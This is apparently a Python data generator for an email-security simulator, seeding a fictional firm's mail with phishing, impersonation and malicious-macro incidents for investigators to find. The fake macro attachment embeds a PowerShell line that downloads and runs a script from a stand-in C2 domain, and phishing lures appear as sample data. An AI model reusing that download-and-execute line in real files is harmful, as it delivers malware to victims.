"""Deterministic seeded data for the simulator: one organisation (Acme Corp) and 30 days of mail.

Everything is generated from `random.Random(seed)` and a fixed anchor time `now`, so the same seed
and anchor give byte-identical data (ids, hashes, bodies). Message bodies, headers and RFC822 sources
are rendered lazily from the message record.
"""

from __future__ import annotations

import hashlib
import io
import random
import time
import zipfile
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

from mimecast_simulator.util import b64url, fmt_date, mc_id

ORG_NAME = "Acme Corp"
DOMAINS = ["acme-corp.com", "acme-corp.co.uk", "acmelabs.io"]
ACCOUNT_CODE = "CSIM1A0042"
PROTECT_HOST = "https://protect-eu.mimecast.com/s/"

FIRST = (  # noqa: SIM905 - a word list reads better as one string
    "James Mary Robert Patricia John Jennifer Michael Linda David Elizabeth William Barbara Richard Susan "
    "Joseph Jessica Thomas Sarah Charles Karen Christopher Lisa Daniel Nancy Matthew Betty Anthony Sandra "
    "Mark Ashley Donald Emily Steven Kimberly Andrew Donna Paul Michelle Joshua Carol Kenneth Amanda "
    "Kevin Melissa Brian Deborah George Stephanie Timothy Rebecca Ronald Laura Jason Helen Edward Sharon "
    "Jeffrey Cynthia Ryan Kathleen Jacob Amy Gary Shirley Nicholas Angela Eric Anna Jonathan Ruth Priya "
    "Raj Wei Mei Oluwaseun Amara Mateo Sofia Lukas Ingrid Hiroshi Yuki Fatima Omar"
).split()
LAST = (  # noqa: SIM905 - a word list reads better as one string
    "Smith Johnson Williams Brown Jones Garcia Miller Davis Rodriguez Martinez Hernandez Lopez Gonzalez "
    "Wilson Anderson Thomas Taylor Moore Jackson Martin Lee Perez Thompson White Harris Sanchez Clark "
    "Ramirez Lewis Robinson Walker Young Allen King Wright Scott Torres Nguyen Hill Flores Green Adams "
    "Nelson Baker Hall Rivera Campbell Mitchell Carter Roberts Patel Shah Chen Wang Okafor Adeyemi "
    "Fischer Larsen Tanaka Sato Haddad Khan Novak Kowalski"
).split()
DEPARTMENTS = ["Finance", "Engineering", "Sales", "Marketing", "HR", "IT", "Legal", "Operations", "Support", "Research"]

PARTNERS = {
    "contoso-partners.com": ("198.51.100.21", "mail.contoso-partners.com"),
    "fabrikam.net": ("198.51.100.34", "smtp.fabrikam.net"),
    "globex.com": ("198.51.100.57", "mx-out.globex.com"),
    "initech.io": ("198.51.100.78", "mail.initech.io"),
    "northwind-supplies.co": ("198.51.100.90", "mail.northwind-supplies.co"),
    "umbrella-logistics.com": ("198.51.100.112", "out.umbrella-logistics.com"),
    "wayne-enterprises.com": ("198.51.100.140", "relay.wayne-enterprises.com"),
    "stark-industries.io": ("198.51.100.161", "smtp.stark-industries.io"),
    "techdigest-news.com": ("192.0.2.41", "bulk1.techdigest-news.com"),
    "saas-billing.com": ("192.0.2.66", "mailer.saas-billing.com"),
    "gmail.com": ("192.0.2.88", "mail-sor-f41.google.com"),
    "outlook.com": ("192.0.2.99", "eur05-out.outbound.protection.outlook.com"),
}
ORG_EGRESS = ("203.0.113.10", "acme-corp-com.mail.protection.outlook.com")
SPAM_SOURCES = [("192.0.2.201", "unknown.host-201.example"), ("192.0.2.214", "vps214.cheap-hosting.example")]

PHISH_DOMAIN = "m365-secure-login.com"
PHISH_URL = f"https://{PHISH_DOMAIN}/owa/auth/login.php?client=acme-corp"
PHISH_IP = ("192.0.2.150", "srv150.m365-secure-login.com")
MACRO_DOMAIN = "northwind-supp1ies.co"
MACRO_IP = ("192.0.2.173", "mail.northwind-supp1ies.co")
IMPERSONATION_DOMAIN = "acme-c0rp.com"
IMPERSONATION_IP = ("192.0.2.190", "mx.acme-c0rp.com")
C2_DOMAIN = "telemetry-cdn-sync.net"
C2_IP = "192.0.2.222"

BENIGN_URLS = [
    "https://www.contoso-partners.com/portal/orders",
    "https://docs.fabrikam.net/specs/v2/overview",
    "https://www.globex.com/news/quarterly-update",
    "https://initech.io/tps/reports?quarter=3",
    "https://northwind-supplies.co/catalog/2026",
    "https://techdigest-news.com/articles/ai-in-logistics",
    "https://techdigest-news.com/unsubscribe",
    "https://saas-billing.com/invoices/view",
    "https://github.com/acme-corp/platform/pull/1432",
    "https://zoom.us/j/93847561234",
    "https://teams.microsoft.com/l/meetup-join/19%3ameeting",
    "https://www.linkedin.com/company/acme-corp",
    "https://calendar.google.com/calendar/event?eid=abc",
    "https://umbrella-logistics.com/track?shipment=UL88231",
]

INTERNAL_SUBJECTS = [
    "Q{q} planning: draft agenda",
    "Re: {project} status update",
    "Meeting notes - {project} sync",
    "Fwd: updated org chart",
    "Lunch & learn on Thursday",
    "Re: budget review for {project}",
    "Code freeze reminder",
    "Expense report approval needed",
    "Re: customer escalation #{n}",
    "Weekly metrics {n}",
    "Holiday schedule",
    "Re: onboarding checklist",
]
INBOUND_SUBJECTS = [
    ("Order confirmation #{n}", "purchasing"),
    ("Invoice {n} from {partner}", "billing"),
    ("Re: contract renewal", "contracts"),
    ("Your weekly tech digest", "news"),
    ("Shipment {n} has been dispatched", "shipping"),
    ("Partnership proposal", "bd"),
    ("Re: integration timeline", "pm"),
    ("Webinar invitation: cloud security in 2026", "events"),
    ("Payment received - thank you", "billing"),
    ("Support ticket #{n} updated", "support"),
]
OUTBOUND_SUBJECTS = [
    "Re: quote request #{n}",
    "Proposal for {partner}",
    "Follow-up from our call",
    "Re: invoice {n}",
    "Meeting request: {project} next steps",
    "Signed NDA attached",
]
SPAM_SUBJECTS = [
    "You have won a $500 gift card!!!",
    "Cheap meds without prescription",
    "URGENT business proposal from the estate of the late Dr. Okoro",
    "Increase your website traffic 300%",
    "Re: your account has been limited",
]
PROJECTS = ["Atlas", "Borealis", "Cobalt", "Delta", "Everest", "Falcon", "Granite", "Helios"]

MESSAGE_COUNT = 5000
# A lookalike domain the attacker controls: SPF passes, nothing else is set up.
LOOKALIKE_AUTH = {"spf": "pass", "dkim": "none", "dmarc": "none"}


@dataclass
class Mailbox:
    email: str
    name: str
    department: str
    title: str
    domain: str
    unavailable: bool = False  # remediation of this mailbox fails (e.g. on-prem journal mailbox offline)


@dataclass
class Attachment:
    key: str
    filename: str
    extension: str
    mime: str
    data: bytes
    text: str
    doc_type: str
    malicious: bool = False
    sha256: str = ""
    sha1: str = ""
    md5: str = ""

    def __post_init__(self):
        self.sha256 = hashlib.sha256(self.data).hexdigest()
        self.sha1 = hashlib.sha1(self.data, usedforsecurity=False).hexdigest()
        self.md5 = hashlib.md5(self.data, usedforsecurity=False).hexdigest()

    @property
    def size(self) -> int:
        return len(self.data)


class Message:
    __slots__ = (
        "attachments",
        "auth",
        "cc",
        "detection_level",
        "env_from",
        "from_addr",
        "from_name",
        "held",
        "id",
        "idx",
        "info",
        "mime_id",
        "policies",
        "received",
        "remediated_by",
        "reply_to",
        "route",
        "sender_host",
        "sender_ip",
        "sent",
        "size",
        "spam_score",
        "status",
        "story",
        "subject",
        "template",
        "to",
        "urls",
    )

    def __init__(self, **kw):
        for k in self.__slots__:
            setattr(self, k, kw.get(k))

    @property
    def recipients(self) -> list[str]:
        return [a for _, a in self.to] + [a for _, a in self.cc]


@dataclass
class State:
    seed: int
    now: datetime
    mailboxes: list[Mailbox] = field(default_factory=list)
    mailbox_by_email: dict[str, Mailbox] = field(default_factory=dict)
    groups: list[dict] = field(default_factory=list)
    policies: list[dict] = field(default_factory=list)
    attachments: dict[str, Attachment] = field(default_factory=dict)
    messages: list[Message] = field(default_factory=list)
    message_by_id: dict[str, Message] = field(default_factory=dict)
    url_map: dict[str, str] = field(default_factory=dict)
    click_logs: list[dict] = field(default_factory=list)
    impersonation_logs: list[dict] = field(default_factory=list)
    attachment_logs: list[dict] = field(default_factory=list)
    rejections: list[dict] = field(default_factory=list)
    release_logs: list[dict] = field(default_factory=list)
    managed_urls: list[dict] = field(default_factory=list)
    incidents: list[dict] = field(default_factory=list)
    web_events: list[dict] = field(default_factory=list)
    safe_scores: dict[str, dict] = field(default_factory=dict)
    phishing_campaigns: list[dict] = field(default_factory=list)
    phishing_results: dict[str, list[dict]] = field(default_factory=dict)
    training: dict[str, dict] = field(default_factory=dict)
    incident_seq: int = 0
    story: dict = field(default_factory=dict)
    # message id -> {recipient: incident code} for copies removed from mailboxes by remediation
    removed: dict[str, dict[str, str]] = field(default_factory=dict)
    # mailbox -> why remediating it fails (fail_remediation): counted in the incident's `failed`;
    # Mimecast's incident has no field for the reason, so only the effect journal keeps it
    remediation_failures: dict[str, str] = field(default_factory=dict)
    # mailbox -> why Mimecast refuses to create an incident narrowed to it (fail[] with the reason).
    remediation_refusals: dict[str, str] = field(default_factory=dict)
    started_monotonic: float = 0.0
    search_logs: list[dict] = field(default_factory=list)
    # What the response actions really did (one entry per policy, managed URL or held message they
    # changed), so tests can prove a retried action ran exactly once; the call journal also holds
    # refused and faulted calls.
    effects: list[dict] = field(default_factory=list)
    action_seq: int = 0  # numbers the policies and managed URLs created at run time: ids never repeat

    def add_message(self, m: Message):
        self.messages.append(m)
        self.message_by_id[m.id] = m

    def attachment_by_id(self, att_id: str):
        return self._att_ids.get(att_id) if hasattr(self, "_att_ids") else None


# --------------------------------------------------------------------------------------------
# attachments with real bytes


def _zip(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in files.items():
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, content)
    return buf.getvalue()


def _pdf(text: str) -> bytes:
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>endobj\n"
        + f"4 0 obj<</Length {len(stream)}>>stream\n".encode()
        + stream
        + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


def _ooxml(kind: str, text: str, macro: bytes | None = None) -> bytes:
    part = {"docx": "word/document.xml", "xlsx": "xl/worksheets/sheet1.xml", "pptx": "ppt/slides/slide1.xml"}
    files = {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
        b'package/2006/content-types"/>',
        part[kind]: f"<?xml version='1.0'?><doc><t>{text}</t></doc>".encode(),
    }
    if macro is not None:
        files["word/vbaProject.bin"] = macro
    return _zip(files)


MACRO_TEXT = "Invoice INV-20931 overdue. This document is protected. Enable Editing and Enable Content to view."


def _build_attachments(rng: random.Random) -> tuple[list[Attachment], Attachment]:
    pool: list[Attachment] = []
    for i in range(36):
        project = PROJECTS[i % len(PROJECTS)]
        kind = ["pdf", "docx", "xlsx", "pptx", "csv", "txt"][i % 6]
        text = f"{project} {['report', 'forecast', 'minutes', 'budget', 'roadmap', 'invoice'][i % 6]} {i} " + " ".join(
            rng.choice(["revenue", "pipeline", "delivery", "risk", "milestone", "customer", "quarter", "plan"])
            for _ in range(12)
        )
        name = f"{project}-{['Report', 'Forecast', 'Minutes', 'Budget', 'Roadmap', 'Invoice'][i % 6]}-{i:02d}"
        if kind == "pdf":
            att = Attachment(f"f{i}", name + ".pdf", "pdf", "application/pdf", _pdf(text), text, "pdf")
        elif kind in ("docx", "xlsx", "pptx"):
            mime = {
                "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                "pptx": "application/vnd.openxmlformats-officedocument.presentationml.presentation",
            }[kind]
            doc_type = {"docx": "documents", "xlsx": "spreadsheets", "pptx": "presentations"}[kind]
            att = Attachment(f"f{i}", f"{name}.{kind}", kind, mime, _ooxml(kind, text), text, doc_type)
        elif kind == "csv":
            data = (
                "id,item,amount\n" + "".join(f"{j},{project}-{j},{rng.randint(10, 9999)}\n" for j in range(20))
            ).encode()
            att = Attachment(f"f{i}", name + ".csv", "csv", "text/csv", data, data.decode(), "spreadsheets")
        else:
            att = Attachment(f"f{i}", name + ".txt", "txt", "text/plain", text.encode(), text, "text")
        pool.append(att)
    vba = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1SIMULATED-VBA-PROJECT\x00"
        b'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n'
        b'  Shell "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('
        b"'http://" + C2_DOMAIN.encode() + b"/stage2.ps1')\"\r\nEnd Sub\r\n"
        b"' inert simulator sample: not executable, for hash and detection demos only\r\n"
    )
    macro = Attachment(
        "macro",
        "INV-20931.docm",
        "docm",
        "application/vnd.ms-word.document.macroEnabled.12",
        _ooxml("docx", MACRO_TEXT, macro=vba),
        MACRO_TEXT,
        "documents",
        malicious=True,
    )
    return pool, macro


# --------------------------------------------------------------------------------------------


def _policy_hold(held: bool, *, reason: str, policy: str, info: str) -> dict:
    """The status fields of a story message that a protection policy holds for an administrator
    (or lets through: archived like any other message)."""
    if not held:
        return {"status": "archived", "info": "Indexed and archived", "held": None}
    return {
        "status": "held",
        "info": f"Message Hold Applied - {info} policy",
        "held": {
            "reason": reason,
            "reasonId": "MESSAGE_HOLD_APPLIED_" + policy.upper().replace(" ", "_") + "_POLICY",
            "policy": f"Default {policy}",
            "heldGroup": "administrator",
        },
    }


def generate(seed: int, now: datetime) -> State:
    rng = random.Random(seed)  # noqa: S311 - deterministic demo data, not security
    now = now.astimezone(UTC).replace(microsecond=0)
    st = State(seed=seed, now=now, started_monotonic=time.monotonic())
    # The order of the steps below is the order of the random draws: changing it changes every seed's data.
    _seed_mailboxes(st, rng)
    users = [m for m in st.mailboxes if m.title != "Shared mailbox"]
    externals = _external_correspondents(rng)
    _seed_groups(st, users, externals)
    st.policies = _blocked_sender_policies(st)
    pool, macro = _build_attachments(rng)
    for a in [*pool, macro]:
        st.attachments[a.key] = a
    story_msgs = _story_messages(st, rng, users)
    ordinary = [_ordinary_message(rng, now, users, externals, pool) for _ in range(MESSAGE_COUNT - len(story_msgs))]
    policies = _default_policies()
    # chronological order gives stable, realistic ids
    for kw in sorted(story_msgs + ordinary, key=lambda kw: kw["received"]):
        _add_message(st, rng, policies, **kw)
    for m in st.messages:
        if m.status == "archived" and (now - m.received) < timedelta(minutes=15):
            m.status, m.info = "delivered", "Delivered"

    phish = [m for m in st.messages if m.story == "phishing"]
    macro_msgs = [m for m in st.messages if m.story == "macro"]
    imp = [m for m in st.messages if m.story == "impersonation"]
    st.story = {
        "phishing_domain": PHISH_DOMAIN,
        "phishing_url": PHISH_URL,
        "phishing_message_ids": [m.id for m in phish],
        "macro_sha256": macro.sha256,
        "macro_filename": macro.filename,
        "macro_message_ids": [m.id for m in macro_msgs],
        "impersonation_message_ids": [m.id for m in imp],
        "c2_domain": C2_DOMAIN,
        "ceo": st.mailboxes[0].email,
    }
    st._att_ids = {  # type: ignore[attr-defined]
        mc_id("att", seed, m.idx, k): (m, st.attachments[key])
        for m in st.messages
        for k, key in enumerate(m.attachments)
    }

    _seed_logs(st, rng, users, phish, macro_msgs, imp, macro)
    _seed_seeded_incident(st)
    _seed_awareness(st, rng, users)
    _seed_web(st, rng, users, macro_msgs)
    return st


def attachment_id(seed: int, m: Message, k: int) -> str:
    return mc_id("att", seed, m.idx, k)


# --------------------------------------------------------------------------------------------
# the organisation: mailboxes, correspondents, groups, blocked sender policies

FIXED_PEOPLE = [
    ("Dana", "Whitfield", "Executive", "Chief Executive Officer", 0),
    ("Alex", "Morgan", "IT", "Security Operations Lead", 0),
    ("Jordan", "Lee", "IT", "Systems Administrator", 0),
    ("Sam", "Okafor", "Finance", "Chief Financial Officer", 0),
    ("Riley", "Chen", "Finance", "Financial Controller", 0),
    ("Casey", "Novak", "Finance", "Accounts Payable Specialist", 0),
]
TITLES = ["Analyst", "Manager", "Engineer", "Specialist", "Coordinator", "Director", "Associate", "Lead"]
NEWSLETTER = ("Tech Digest", "news@techdigest-news.com", "techdigest-news.com")
BILLING = ("SaaS Billing", "billing@saas-billing.com", "saas-billing.com")


def _seed_mailboxes(st: State, rng: random.Random):
    """320 people (the first six fixed: the CEO, IT and Finance staff the stories need), then shared mailboxes."""
    people = list(FIXED_PEOPLE)
    while len(people) < 320:
        f, lname = rng.choice(FIRST), rng.choice(LAST)
        dept = rng.choice(DEPARTMENTS)
        di = 0 if rng.random() < 0.7 else (1 if rng.random() < 0.6 else 2)
        people.append((f, lname, dept, f"{dept} {rng.choice(TITLES)}", di))
    seen: set[str] = set()
    for f, lname, dept, title, di in people:
        domain = DOMAINS[di]
        local = f"{f}.{lname}".lower()
        n = 2
        while f"{local}@{domain}" in seen:
            local = f"{f}.{lname}{n}".lower()
            n += 1
        email = f"{local}@{domain}"
        seen.add(email)
        st.mailboxes.append(Mailbox(email, f"{f} {lname}", dept, title, domain, unavailable=False))
    for i, mb in enumerate(st.mailboxes):
        if i > 10 and i % 37 == 0:
            mb.unavailable = True
    for svc in ("it-helpdesk", "finance-ap", "noreply"):
        mb = Mailbox(f"{svc}@acme-corp.com", svc.replace("-", " ").title(), "IT", "Shared mailbox", "acme-corp.com")
        st.mailboxes.append(mb)
    st.mailbox_by_email = {m.email: m for m in st.mailboxes}


def _external_correspondents(rng: random.Random) -> list[tuple[str, str, str]]:
    """Five people at each partner domain: (name, address, domain)."""
    externals = []
    for dom in PARTNERS:
        for _ in range(5):
            f, lname = rng.choice(FIRST), rng.choice(LAST)
            externals.append((f"{f} {lname}", f"{f}.{lname}@{dom}".lower(), dom))
    return externals


GROUP_NAMES = [
    "Finance",
    "Engineering",
    "Sales",
    "HR",
    "IT Security",
    "Executives",
    "VIP Users",
    "All Staff UK",
    "Blocked Senders",
    "Permitted Senders",
]
DEPARTMENT_GROUPS = ["Finance", "Engineering", "Sales", "HR", "IT"]


def _member(addr: str, name: str | None, internal: bool, kind: str = "created_manually") -> dict:
    return {
        "emailAddress": addr,
        "domain": addr.split("@")[-1],
        "name": name,
        "type": kind,
        "internal": internal,
        "notes": "",
    }


def _group_members(gname: str, users: list[Mailbox], externals) -> list[dict]:
    if gname in DEPARTMENT_GROUPS or gname == "IT Security":
        dept = "IT" if gname == "IT Security" else gname
        return [_member(m.email, m.name, True, "directory_sync") for m in users if m.department == dept]
    if gname == "Executives":
        return [_member(m.email, m.name, True) for m in users if "Chief" in m.title or "Director" in m.title]
    if gname == "VIP Users":
        return [_member(m.email, m.name, True) for m in users[:6]]
    if gname == "All Staff UK":
        return [_member(m.email, m.name, True, "directory_sync") for m in users if m.domain == "acme-corp.co.uk"]
    if gname == "Blocked Senders":
        return [
            {**_member("spam@" + SPAM_SOURCES[0][1].split(".", 1)[1], None, False), "notes": "bulk spam source"},
            {
                **_member("x@cheap-hosting.example", None, False),
                "emailAddress": None,
                "domain": "cheap-hosting.example",
                "notes": "blocked domain",
            },
            _member("winner@prize-claims.example", None, False),
        ]
    return [_member(a, n, False) for n, a, d in externals if d in ("contoso-partners.com", "fabrikam.net")]


def _seed_groups(st: State, users: list[Mailbox], externals):
    for gi, gname in enumerate(GROUP_NAMES):
        members = _group_members(gname, users, externals)
        st.groups.append(
            {
                "id": mc_id("grp", st.seed, gi),
                "description": gname,
                "source": "cloud",
                "parentId": mc_id("grp", st.seed, "root"),
                "userCount": len(members),
                "folderCount": 0,
                "members": members,
            }
        )


def _blocked_sender_policies(st: State) -> list[dict]:
    groups = {g["description"]: g for g in st.groups}
    return [
        _policy(st, groups, 0, "block_sender", "Block known spam hosting", "email_domain:cheap-hosting.example"),
        _policy(st, groups, 1, "block_sender", "Blocked Senders group", "profile_group:Blocked Senders"),
        _policy(st, groups, 2, "block_sender", "Prize scam sender", "email_address:winner@prize-claims.example"),
        _policy(
            st,
            groups,
            3,
            "no_action",
            "Permitted partners exception",
            "profile_group:Permitted Senders",
            "internal_addresses:",
        ),
        _policy(
            st,
            groups,
            4,
            "block_sender",
            "Free mail to Finance (disabled pilot)",
            "free_mail_domains:",
            "profile_group:Finance",
            enabled=False,
        ),
        _policy(st, groups, 5, "block_sender", "Old lookalike domain", "email_domain:acme-corp-secure.example"),
    ]


FREE_MAIL_DOMAINS = frozenset({"gmail.com", "outlook.com", "hotmail.com", "yahoo.com", "aol.com", "gmx.com"})


def _policy_party(spec: str, groups: dict[str, dict]) -> tuple[dict, str, str]:
    """A policy's from/to side from "kind:value" (e.g. "profile_group:Finance", "everyone:")."""
    kind, _, value = spec.partition(":")
    obj = {"type": kind}
    if kind == "email_domain":
        obj["emailDomain"] = value
    elif kind == "email_address":
        obj["emailAddress"] = value
    elif kind == "profile_group":
        obj["groupId"] = groups[value]["id"]
    return obj, kind, value


def _policy(st: State, groups, i, option, desc, from_, to="everyone:", enabled=True) -> dict:
    fobj, ftype, fval = _policy_party(from_, groups)
    tobj, ttype, tval = _policy_party(to, groups)
    created = fmt_date(st.now - timedelta(days=200 - i * 20))
    return {
        "id": mc_id("pol", st.seed, i),
        "option": option,
        "policy": {
            "description": desc,
            "fromPart": "both",
            "from": fobj,
            "to": tobj,
            "fromType": ftype,
            "fromValue": fval,
            "toType": ttype,
            "toValue": tval,
            "fromEternal": True,
            "toEternal": True,
            "fromDate": "1900-01-01T00:00:00+0000",
            "toDate": "2100-01-01T23:59:59+0000",
            "override": False,
            "bidirectional": False,
            "enabled": enabled,
            "enforced": False,
            "conditions": {},
            "createTime": created,
            "lastUpdated": created,
        },
    }


# --------------------------------------------------------------------------------------------
# messages


def _default_policies() -> list[dict]:
    return [
        {"policyType": "Spam Scanning", "policyName": "Default Spam Scanning Definition", "inherited": False},
        {"policyType": "Anti-Spoofing", "policyName": "Default Anti-Spoofing", "inherited": False},
        {"policyType": "URL Protect", "policyName": "Default URL Protect Policy", "inherited": False},
        {"policyType": "Attachment Protect", "policyName": "Default Attachment Protect", "inherited": False},
    ]


def _rewrite_urls(st: State, idx: int, originals: list[str], route: str) -> list[tuple[str, str]]:
    """(original, as delivered) pairs: URL Protect rewrites inbound links to a protect-host token."""
    out = []
    for k, url in enumerate(originals):
        if route == "inbound":
            token = b64url(hashlib.sha256(f"{st.seed}:{idx}:{k}".encode()).digest()[:15])
            st.url_map[token] = url
            out.append((url, PROTECT_HOST + token))
        else:
            out.append((url, url))
    return out


def _add_message(
    st: State,
    rng: random.Random,
    policies: list[dict],
    *,
    route,
    sender,
    to,
    cc=(),
    subject,
    received,
    ip,
    template,
    attachments=(),
    urls=(),
    status="archived",
    info="Indexed and archived",
    spam=0,
    level="",
    held=None,
    auth=None,
    story="",
    reply_to=None,
) -> Message:
    idx = len(st.messages)
    name, addr = sender
    local_dom = addr.split("@")[1]
    m = Message(
        idx=idx,
        id=mc_id("msg", st.seed, idx),
        mime_id=f"<{hashlib.sha256(f'{st.seed}-{idx}'.encode()).hexdigest()[:24]}@{local_dom}>",
        route=route,
        from_name=name,
        from_addr=addr,
        env_from=addr if route != "inbound" or rng.random() < 0.8 else f"bounces+{idx}@{local_dom}",
        reply_to=reply_to,
        to=list(to),
        cc=list(cc),
        subject=subject,
        received=received,
        sent=received - timedelta(seconds=rng.randint(2, 40)),
        sender_ip=ip[0],
        sender_host=ip[1],
        status=status,
        info=info,
        spam_score=spam,
        detection_level=level,
        attachments=list(attachments),
        urls=_rewrite_urls(st, idx, list(urls), route),
        template=template,
        held=held,
        remediated_by=None,
        auth=dict(auth or {"spf": "pass", "dkim": "pass", "dmarc": "pass"}),
        story=story,
        policies=policies,
    )
    m.size = 2400 + len(subject) * 13 + sum(st.attachments[a].size for a in m.attachments) + 60 * len(m.urls)
    st.add_message(m)
    return m


def _story_messages(st: State, rng: random.Random, users: list[Mailbox]) -> list[dict]:
    """The incidents an investigator can find, as message specs (the order is the order of random draws)."""
    finance = [m for m in users if m.department == "Finance"]
    return [
        *_phishing_story(st.now, rng, users),
        *_macro_story(st, rng, users),
        *_impersonation_story(st.now, users, finance),
        *_old_phishing_story(st.now, rng, users),
    ]


def _phishing_story(now: datetime, rng: random.Random, users: list[Mailbox]) -> list[dict]:
    """Credential phishing with rewritten URLs, several clicks."""
    phish_time = now - timedelta(days=3, hours=-2)
    return [
        dict(
            route="inbound",
            sender=("Microsoft 365 Security", f"no-reply@{PHISH_DOMAIN}"),
            to=[(mb.name, mb.email)],
            subject="Action required: your mailbox password expires today",
            received=phish_time + timedelta(seconds=17 * k),
            ip=PHISH_IP,
            template="phish",
            urls=[PHISH_URL],
            spam=2,
            level="relaxed",
            auth=LOOKALIKE_AUTH,
            story="phishing",
        )
        for k, mb in enumerate(rng.sample(users[6:], 45))
    ]


def _macro_story(st: State, rng: random.Random, users: list[Mailbox]) -> list[dict]:
    """A malicious macro attachment: 8 messages x 3 recipients delivered (24 mailboxes), 2 held."""
    macro_time = st.now - timedelta(days=2, hours=5)
    macro_targets = rng.sample(
        [m for m in users[6:] if m.department in ("Finance", "Operations", "Sales")] + users[6:40], 30
    )
    unavailable = next(m for m in st.mailboxes if m.unavailable)
    macro_targets[1] = unavailable  # one copy cannot be remediated: shows a real "failed" count
    specs = []
    for k in range(10):
        recips = macro_targets[k * 3 : k * 3 + 3]
        held = k >= 8
        specs.append(
            dict(
                route="inbound",
                sender=("Northwind Accounts", f"accounts@{MACRO_DOMAIN}"),
                to=[(r.name, r.email) for r in recips],
                subject="Overdue invoice INV-20931 - final reminder",
                received=macro_time + timedelta(minutes=7 * k),
                ip=MACRO_IP,
                template="macro",
                attachments=["macro"],
                spam=1,
                level="relaxed",
                auth=LOOKALIKE_AUTH,
                **_policy_hold(
                    held, reason="Attachment Protection", policy="Attachment Protect", info="Attachment Protection"
                ),
                story="macro",
            )
        )
    return specs


def _impersonation_story(now: datetime, users: list[Mailbox], finance: list[Mailbox]) -> list[dict]:
    """The CEO impersonated from a lookalike domain, asking Finance for a wire transfer; two of three held."""
    imp_time = now - timedelta(days=1, hours=3)
    ceo = users[0]
    return [
        dict(
            route="inbound",
            sender=(ceo.name, f"dana.whitfield@{IMPERSONATION_DOMAIN}"),
            reply_to="dana.whitfield.ceo@gmail.com",
            to=[(mb.name, mb.email)],
            subject="Urgent: confidential wire transfer today",
            received=imp_time + timedelta(minutes=4 * k),
            ip=IMPERSONATION_IP,
            template="impersonation",
            spam=3,
            level="moderate",
            auth=LOOKALIKE_AUTH,
            **_policy_hold(
                k < 2,
                reason="Impersonation Protection",
                policy="Impersonation Protect",
                info="Impersonation Protect",
            ),
            story="impersonation",
        )
        for k, mb in enumerate(finance[:3] if len(finance) >= 3 else users[3:6])
    ]


def _old_phishing_story(now: datetime, rng: random.Random, users: list[Mailbox]) -> list[dict]:
    """An older phishing wave already remediated automatically by the Mimecast security team."""
    old_time = now - timedelta(days=20)
    return [
        dict(
            route="inbound",
            sender=("DocuSign", "dse@docusign-review.example"),
            to=[(mb.name, mb.email)],
            subject="Please review and sign: Q4 bonus agreement",
            received=old_time + timedelta(minutes=k),
            ip=SPAM_SOURCES[1],
            template="docusign",
            urls=["https://docusign-review.example/sign?doc=8812"],
            spam=4,
            level="moderate",
            auth={"spf": "softfail", "dkim": "none", "dmarc": "fail"},
            story="old_phish",
        )
        for k, mb in enumerate(rng.sample(users[6:], 6))
    ]


def _ordinary_message(rng: random.Random, now: datetime, users: list[Mailbox], externals, pool) -> dict:
    """One everyday message spec: inbound from a partner (55%), held spam (2%), outbound (23%) or internal."""
    r = rng.random()
    t = now - timedelta(seconds=rng.randint(60, int(30.0 * 86400)))
    n = rng.randint(1000, 99999)
    project = rng.choice(PROJECTS)
    atts = [rng.choice(pool).key] if rng.random() < 0.18 else []
    if rng.random() < 0.04 and atts:
        atts.append(rng.choice(pool).key)
    if r < 0.55:
        return _inbound_message(rng, t, n, atts, users, externals)
    if r < 0.57:
        return _held_spam_message(rng, t, n, users)
    if r < 0.80:
        return _outbound_message(rng, t, n, project, atts, users, externals)
    return _internal_message(rng, t, n, project, atts, users)


def _inbound_message(rng: random.Random, t: datetime, n: int, atts: list[str], users, externals) -> dict:
    ext = rng.choice([NEWSLETTER, BILLING]) if rng.random() < 0.12 else rng.choice(externals)
    dom = ext[2]
    subj_t, tmpl = rng.choice(INBOUND_SUBJECTS)
    subject = subj_t.format(n=n, partner=dom.split(".")[0].title())
    tos = rng.sample(users, rng.choice([1, 1, 1, 2, 3]))
    cc = rng.sample(users, 1) if rng.random() < 0.15 else []
    spam = rng.choice([0, 0, 0, 0, 1, 1, 2])
    return dict(
        route="inbound",
        sender=(ext[0], ext[1]),
        to=[(m.name, m.email) for m in tos],
        cc=[(m.name, m.email) for m in cc],
        subject=subject,
        received=t,
        ip=PARTNERS[dom],
        template=tmpl,
        attachments=atts,
        urls=rng.sample(BENIGN_URLS, rng.choice([0, 1, 1, 2])),
        spam=spam,
        level=rng.choice(["relaxed", "moderate", ""]),
        auth={"spf": "pass", "dkim": rng.choice(["pass", "pass", "none"]), "dmarc": "pass"},
    )


def _held_spam_message(rng: random.Random, t: datetime, n: int, users) -> dict:
    src = rng.choice(SPAM_SOURCES)
    tos = rng.sample(users, 1)
    return dict(
        route="inbound",
        sender=("Promotions", f"offers{n % 97}@{src[1].split('.', 1)[1]}"),
        to=[(m.name, m.email) for m in tos],
        subject=rng.choice(SPAM_SUBJECTS),
        received=t,
        ip=src,
        template="spam",
        urls=["https://prize-claims.example/claim"],
        spam=rng.randint(20, 45),
        level="moderate",
        auth={"spf": "softfail", "dkim": "none", "dmarc": "fail"},
        status="held",
        info="Message Hold Applied - Spam Signature policy",
        held={
            "reason": "Spam Signature",
            "reasonId": "MESSAGE_HOLD_APPLIED_SPAM_SIGNATURE_POLICY",
            "policy": "Default Spam Scanning Definition",
            "heldGroup": "user",
        },
    )


